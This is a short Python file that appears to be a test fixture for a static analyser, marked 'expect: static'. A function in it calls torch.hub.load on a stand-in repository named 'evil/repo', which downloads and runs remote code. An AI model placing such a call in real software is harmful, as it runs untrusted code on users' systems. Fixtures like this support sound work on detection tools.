# expect: static
# torch.hub downloads and runs code.
import torch


def weights(td):
    torch.hub.load("evil/repo", "model")
    return torch.ones_like(td["observation"][..., 0])
